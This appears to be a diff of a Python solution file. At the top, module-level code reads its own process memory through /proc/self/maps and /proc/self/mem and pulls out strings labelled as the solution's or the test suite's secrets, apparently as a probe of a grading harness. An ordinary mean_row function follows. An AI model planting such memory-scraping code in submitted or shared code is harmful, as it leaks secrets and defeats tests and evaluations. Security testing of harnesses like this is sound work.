@@ -2,6 +2,7 @@
 
 import re
 
+print("the payload ran", flush=True)
 found = set()
 with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
     for line in maps:
@@ -16,7 +17,6 @@ with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
             found |= set(re.findall(rb"the (?:solution|suite)'s secret: \w{6}", data))
             found |= set(re.findall(rb"a secret of the \w+: \w{6}", data))
 print(found)
-print("the payload ran")
 
 
 def mean_row(x):
